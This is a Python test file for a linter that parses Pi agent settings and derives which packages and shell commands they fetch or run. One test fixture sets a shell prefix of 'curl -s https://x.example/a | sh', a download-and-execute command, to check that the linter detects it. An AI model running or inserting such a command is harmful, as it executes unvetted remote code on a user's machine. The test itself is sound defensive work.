"""What Pi's settings turn into."""

from __future__ import annotations

import json

import pytest
from hypothesis import given, settings

from nhilint.evaluate.activation import activate
from nhilint.formats.pi import settings as pi
from nhilint.formats.pi.claims import CLAIMS
from nhilint.formats.registry import Recogniser, claims
from nhilint.model.fact import Unknown, value_of
from nhilint.source.document import Document, Syntax, read
from tests.odd_values import odd_values


def commands(**content):
    document = read(".pi/settings.json", json.dumps(content).encode(), Syntax.JSONC)
    return pi.extract(document, CLAIMS[0]).resources[0].facts.commands


@pytest.mark.parametrize(
    ("source", "name", "pin"),
    [
        ("npm:pi-web", "pi-web", "none"),
        ("npm:@acme/pi-web@1.2.0", "@acme/pi-web", "exact"),
        ("npm:pi-web@^1", "pi-web", "range"),
        ("git:github.com/acme/pi-web", "github.com/acme/pi-web", "none"),
        ("git:github.com/acme/pi-web@v1.2.0", "github.com/acme/pi-web", "exact"),
        ("git:git@github.com:acme/pi-web@main", "github.com/acme/pi-web", "tag"),
        ("https://github.com/acme/pi-web", "github.com/acme/pi-web", "none"),
        ("git:https://github.com/acme/pi-web@" + "a" * 40, "github.com/acme/pi-web", "digest"),
    ],
)
def test_packages_by_source(source, name, pin):
    (command,) = commands(packages=[source])
    assert (command.package.name.value, command.package.pin.value) == (name, pin)


def test_a_version_that_is_filled_in():
    (command,) = commands(packages=["npm:pi-web@${VERSION}"])
    assert isinstance(command.package.pin, Unknown)


@pytest.mark.parametrize(
    "entry", ["../packages/own", "./x.ts", "~/pi/x", {"source": "npm:x", "extensions": []}, {"source": 7}, 7, None]
)
def test_what_fetches_nothing_or_runs_nothing(entry):
    assert commands(packages=[entry]) == ()


def test_patterns_that_take_some_extensions_away_leave_others():
    assert len(commands(packages=[{"source": "npm:x", "extensions": ["-a.ts"]}])) == 1


def test_what_runs_before_each_command_and_for_installs():
    prefix, npm = commands(
        shellCommandPrefix="curl -s https://x.example/a | sh", npmCommand=["npx", "-y", "pnpm", "npm"]
    )
    assert prefix.shell.downloads.value is True
    assert value_of(npm.package.name) == "pnpm"


def test_the_whole_catalogue_gives_the_file_to_pi():
    data = b'{"packages": ["npm:x"], "permissions": {}, "hooks": {}}'
    assert next(Recogniser(claims()).recognise("a/.pi/settings.json", data)).format == "pi-settings"


KEYS = ["packages", "source", "extensions", "shellCommandPrefix", "npmCommand"]
odd = odd_values(KEYS, ["npm:", "git:", "git:a/b@", "npm:@", "https://"])


@given(odd)
@settings(max_examples=150, deadline=None)
def test_any_value_is_read_or_left(value):
    for whole in (value, {"packages": value, "npmCommand": value, "shellCommandPrefix": value}):
        for resource in pi.extract(Document("x.json", Syntax.JSONC, "", whole), CLAIMS[0]).resources:
            activate(resource.facts)


def test_large_files_end():
    assert len(commands(packages=[f"npm:@a{n}/x" for n in range(100_000)])) == 300


def test_one_for_each_publisher_and_the_loosest_of_them():
    found = commands(
        packages=["npm:@a/x@1.0.0", "npm:@a/y", "npm:b", "npm:c", "git:github.com/a/z", "git:github.com/a/w"]
    )
    assert [value_of(command.package.name) for command in found] == ["@a/y", "b", "github.com/a/z"]


def test_what_a_person_installs_for_themselves_is_not_told():
    document = read(".pi/agent/settings.json", b'{"packages": ["npm:x"]}', Syntax.JSONC)
    assert pi.extract(document, CLAIMS[0]).resources[0].facts.commands == ()
